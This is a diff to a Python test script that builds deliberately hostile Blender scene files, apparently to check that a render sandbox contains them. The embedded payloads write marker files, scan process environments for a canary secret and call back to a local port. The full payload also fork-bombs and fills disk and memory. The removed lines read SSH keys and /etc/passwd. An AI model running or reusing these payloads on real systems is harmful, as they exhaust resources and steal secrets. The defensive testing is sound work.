@@ -1,9 +1,8 @@
 """Scenes that cannot or must not be rendered as they are: `bad_scenes.py OUT_DIR TRACES_DIR PORT`.
 
-Run with the Python of the environment `blender-5.0`. Every scene is tiny. The hostile ones carry Python that reads the
-host's files, calls PORT on the host, leaves files named `tatau-hostile-PORT` in TRACES_DIR and elsewhere, and then forks,
-fills the disk and the memory without end. It must never run, except in a rehearsal (`TATAU_REHEARSAL` in its environment),
-where it stops before it does harm.
+Run with the Python of the environment `blender-5.0`. Every scene is tiny. The hostile ones carry Python that looks for the
+word `tatau-secret-PORT` in the host's files and environments, calls PORT on the host, and leaves files named
+`tatau-hostile-PORT` in TRACES_DIR and elsewhere; all but `hostile-mild` then fork, fill the disk and the memory without end.
 """
 
 import os
@@ -16,26 +15,38 @@ import zstandard
 
 OUT, TRACES, PORT = os.path.abspath(sys.argv[1]), sys.argv[2], int(sys.argv[3])
 SEED = 2026
-PAYLOAD = f"""
-import os, socket, subprocess
+SECRET = f"tatau-secret-{PORT}"
+MILD = f"""
+import bpy, glob, os, socket
 print("HOSTILE PYTHON RAN")
-for place in ({TRACES!r}, "/tmp", os.getcwd(), os.path.expanduser("~")):
+for place in ({TRACES!r}, "/tmp", "/", os.getcwd(), os.path.expanduser("~")):
     try:
         open(os.path.join(place, "tatau-hostile-{PORT}"), "w").write("here")
     except OSError:
         pass
-for file in ("/proc/1/environ", "/proc/self/environ", "/etc/passwd", os.path.expanduser("~/.ssh/id_ed25519")):
+stolen = 0
+for file in [{TRACES!r} + "/secret", "/proc/self/environ", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/root" + {TRACES!r} + "/secret")]:
     try:
-        print("HOSTILE PYTHON READ", open(file, "rb").read()[:200])
+        stolen += {SECRET!r}.encode() in open(file, "rb").read(1 << 20)
     except OSError:
         pass
-try:
-    socket.create_connection(("127.0.0.1", {PORT}), 2).sendall(b"hostile")
-except OSError:
-    pass
-if "TATAU_REHEARSAL" in os.environ:
-    raise RuntimeError("rehearsed")
-subprocess.Popen(["/bin/sh", "-c", "while :; do sleep 60 & done"])
+print("HOSTILE PYTHON STOLE", stolen)
+calls = 0
+for family, address in ((socket.AF_INET, ("127.0.0.1", {PORT})), (socket.AF_INET6, ("::ffff:127.0.0.1", {PORT}))):
+    try:
+        with socket.socket(family) as call:
+            call.settimeout(2)
+            call.connect(address)
+            calls += 1
+    except OSError:
+        pass
+# What it found out, in the names that the inspection tells.
+bpy.data.texts.new(f"stolen {{stolen}} calls {{calls}}").use_module = True
+bpy.data.scenes[0].camera = None
+"""
+PAYLOAD = MILD + f"""
+import subprocess
+subprocess.Popen(["/bin/sh", "-c", "while :; do sleep 600.{PORT} & done"])
 with open("/tmp/tatau-hostile-{PORT}-disk", "wb") as file:
     while True:
         file.write(bytes(1 << 24))
@@ -138,9 +149,9 @@ def libraries():
     os.remove(library)
 
 
-def hostile_text(name, registered):
+def hostile_text(name, registered, payload=PAYLOAD):
     fresh()
-    bpy.data.texts.new("payload").write(PAYLOAD)
+    bpy.data.texts.new("payload").write(payload)
     text = bpy.data.texts.new("start.py")
     text.write(HANDLER)
     text.use_module = registered
@@ -204,6 +215,7 @@ def main():
     save("cloth.blend")
     hostile_text("hostile-registered.blend", True)
     hostile_text("hostile-asleep.blend", False)
+    hostile_text("hostile-mild.blend", True, MILD)
     hostile_drivers()
     osl()
 
